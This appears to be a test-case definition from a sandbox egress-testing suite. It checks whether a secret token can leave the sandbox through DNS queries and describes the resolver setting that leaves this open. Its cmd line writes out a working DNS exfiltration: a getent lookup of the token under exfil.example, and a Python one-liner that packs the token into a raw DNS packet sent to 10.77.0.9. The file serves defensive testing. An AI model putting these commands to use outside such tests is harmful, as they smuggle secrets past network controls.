# SPDX-License-Identifier: LGPL-2.1-or-later
class=network
what="exfiltration in DNS queries through the host's resolver"
cmd="getent hosts $(secret tok).exfil.example; python3 -c 'import socket,sys; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x20\" + sys.argv[1].encode() + b\"\\x00\\x00\\x01\\x00\\x01\", (\"10.77.0.9\", 53))' $(secret tok); echo sent"
applies() { [ "$ESC_MODE" != open ]; }
happened() { listener_saw "$(secret tok)"; }
gap() { [ "$ESC_MODE" = ip ] && echo 'network.resolver = true passes any query on (needs the proxy'"'"'s DNS filter); resolver = false or mode "none" closes it'; }
